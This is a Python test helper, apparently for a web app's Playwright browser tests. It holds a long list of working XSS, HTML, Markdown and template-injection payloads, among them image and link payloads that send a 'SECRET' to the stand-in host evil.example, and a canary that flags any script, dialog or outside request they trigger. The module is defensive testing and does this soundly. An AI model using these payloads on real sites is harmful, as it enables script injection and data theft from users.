"""Texts that want to act, and the canary that hears it when one does."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any

from playwright.async_api import BrowserContext, Page

EVIL = "evil.example"
#: As HTML, wherever a text might be taken for it.
MARKUP = (
    f"<script>alert(1)</script><script src=//{EVIL}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src=https://{EVIL}/pixel?q=SECRET>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/><image href=//{EVIL}/i>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=a()'",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></math>",
    f"<math href='javascript:alert(1)'><maction actiontype='statusline#//{EVIL}'>x</math>",
    f"<iframe src=//{EVIL}/frame></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data=//{EVIL}/o></object><embed src=//{EVIL}/e><video poster=//{EVIL}/v autoplay>",
    "<details open ontoggle=alert(1)>x</details><input autofocus onfocus=alert(1)>",
    f"<base href=//{EVIL}/><meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<link rel=stylesheet href=//{EVIL}/c.css><style>@import url(//{EVIL}/i.css);</style>",
    f"<p style='background:url(//{EVIL}/b)'>x</p><body background=//{EVIL}/bg onpageshow=alert(1)>",
    "<form action=/accounts/logout/ method=post id=composer><button name=submit>go</button></form>",
    '<p hx-get="/admin/" hx-trigger="load" data-hx-post="/c/start/" hx-on:click="alert(1)">x</p>',
    "<div hx-vals='js:alert(1)' hx-ext=ws ws-connect=/ws/evil/ ws-send hx-boost=true>x</div>",
    '<a id="csrfmiddlewaretoken" name="getElementById">x</a><p id=live>x</p><p id=words>x</p>',
    '"><script>alert(1)</script><a x="',
    "'-alert(1)-'",
    "</textarea></template></title></style>",
    "{{ 7|add:7 }}{% include 'base.html' %}${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor}}",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
)
#: As Markdown and formulas.
MARKDOWN = (
    "[x](javascript:alert(1)) [x](jav&#x09;ascript:alert(1)) [x](data:text/html,<b>a</b>)",
    f"[x](vbscript:x) [x](//{EVIL}) [x](\\\\{EVIL}) [x](https:{EVIL}) <javascript:alert(1)>",
    f"![a](https://{EVIL}/?q=SECRET) ![b][r] [![c](https://{EVIL}/c)](https://{EVIL}/d)",
    f"[r]: https://{EVIL}/r",
    f"[https://claude.ai/login](https://claude.ai@{EVIL}/login) [paypal.com](https://pаypal.com/)",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$ and $x^2$",
    f"$$\\html{{<img src=//{EVIL}/m>}}$$",
    "$$\\text{</mtext></math><img src=x onerror=alert(1)>}$$",
    '```"><script>alert(1)</script>\ncode <script>alert(1)</script>\n```',
    '```html\n<script>alert(1)</script><img src=x onerror="alert(1)">\n```',
    f"| <img src=//{EVIL}/t> | `<script>` |\n|:--|--:|\n| <svg onload=alert(1)> | $x$ |",
    "# <a href=x onclick=alert(1)>h</a>",
)
#: Characters that a terminal, a database or a reader trips over.
ODD = (
    "nul \x00 bell \x07 escape \x1b[31mred\x1b[0m", "right to left \u202egnp.exe\u202c end",
    "zero\u200bwidth\u2060 tags \U000e0041\U000e0042", "line\u2028separator", "\ufeffbom \uffff",
    "z" + "\u0301" * 300, "wide" * 2_000,
)  # fmt: skip


#: One text with all of them; `MARK` stands at its very end.
MARK = "the-end-of-it"
HOSTILE = "\n\n".join((*MARKUP, *MARKDOWN, *ODD, MARK))
#: What a person can type: a form refuses NUL.
TYPED = HOSTILE.replace("\x00", "")
#: What fits on one line: a title, a name, a path.
LINE = f'{MARK} "><img src=x onerror=alert(1)><script>alert(1)</script>{{{{7*7}}}}'
NAME = "\"><img src=x onerror=alert(1)>'.html"

_HEARS = """() => {
  window.heard = [];
  document.addEventListener("securitypolicyviolation",
    (event) => window.heard.push(`refused ${event.violatedDirective} ${event.blockedURI}`));
  for (const name of ["alert", "confirm", "prompt", "print", "open"])
    window[name] = () => window.heard.push(name);
}"""
#: Everything in the page that could act and is not the page's own.
_FOUND = """() => {
  const found = [...(window.heard ?? [])];
  for (const node of document.querySelectorAll("*")) {
    const tag = node.localName;
    const source = node.getAttribute("src") ?? node.getAttribute("data") ?? "";
    const own = /^\\/(static|admin\\/jsi18n)\\//;
    if (tag === "script" && !(own.test(source) && !node.textContent.trim()))
      found.push(`script ${source} ${node.textContent.slice(0, 60)}`);
    if (["iframe", "object", "embed", "base", "video", "audio", "frame", "portal"].includes(tag))
      found.push(tag);
    if (tag === "meta" && node.httpEquiv.toLowerCase() === "refresh") found.push("refresh");
    if (tag === "img" && !/^(data:image|\\/|blob:)/.test(source)) found.push(`img ${source}`);
    if (tag === "link" && !own.test(node.getAttribute("href"))) found.push(`link ${node.href}`);
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on") || name === "srcdoc") found.push(`${tag} ${name}`);
      if (/^(href|action|formaction|xlink:href|src)$/.test(name)
          && /^\\s*(javascript|vbscript|data:text)/i.test(value))
        found.push(`${tag} ${name} ${value}`);
    }
  }
  const kept = ".prose, .bubble, .thought, .plain, .excerpt, .words, pre, bdi, .brief";
  for (const place of document.querySelectorAll(kept)) {
    for (const node of place.querySelectorAll("*")) {
      const bad = [...node.attributes].map((one) => one.name).filter(
        (name) => /^(id|name|style|hx-.*|ws-.*|data-hx.*|srcset|poster|background)$/.test(name));
      if (bad.length) found.push(`${node.localName} in a text: ${bad}`);
      if (/^(form|input|button|style|svg|link|meta|object|select|textarea)$/.test(node.localName)
          && !node.closest(".code > .quiet, .icon, summary, .keep")
          && !node.matches("[data-copy]"))
        found.push(`${node.localName} in a text`);
    }
  }
  return found;
}"""


@dataclass
class Canary:
    """What a browser did that the product did not ask it to."""

    own: str
    seen: list[str] = field(default_factory=list)
    found: list[str] = field(default_factory=list)
    pages: int = 0

    async def watch(self, context: BrowserContext) -> None:
        await context.add_init_script(f"({_HEARS})()")
        # Heard, and no further.
        await context.route(re.compile(EVIL), lambda route: route.abort())
        context.on("request", lambda request: self._asked(request.url))
        context.on("page", self._opened)

    def _opened(self, page: Page) -> None:
        page.on("dialog", self._spoke)
        page.on("pageerror", lambda error: self.seen.append(f"error {error}"))
        page.on("console", self._said)
        page.on("websocket", lambda socket: self._asked(socket.url))
        page.on("download", lambda file: self.seen.append(f"download {file.url}"))

    def _asked(self, url: str) -> None:
        same = (self.own, self.own.replace("http:", "ws:"), "data:image/", "blob:", "about:blank")
        if not url.startswith(same):
            self.seen.append(f"request {url[:120]}")

    async def _spoke(self, dialog: Any) -> None:
        self.seen.append(f"dialog {dialog.message}")
        await dialog.dismiss()

    def _said(self, message: Any) -> None:
        if message.type == "error":
            self.seen.append(f"console {message.text}")

    async def look(self, page: Page, name: str) -> str:
        """Give the page's text; keep what is in it that could act, or did."""
        closed = page.locator("details:not([open])")
        await closed.evaluate_all("all => all.forEach((one) => { one.open = true; })")
        self.seen += await page.evaluate(_FOUND)
        self.found += [f"{name}: {one}" for one in dict.fromkeys(self.seen)]
        self.seen.clear()
        self.pages += 1
        return await page.locator("body").inner_text()
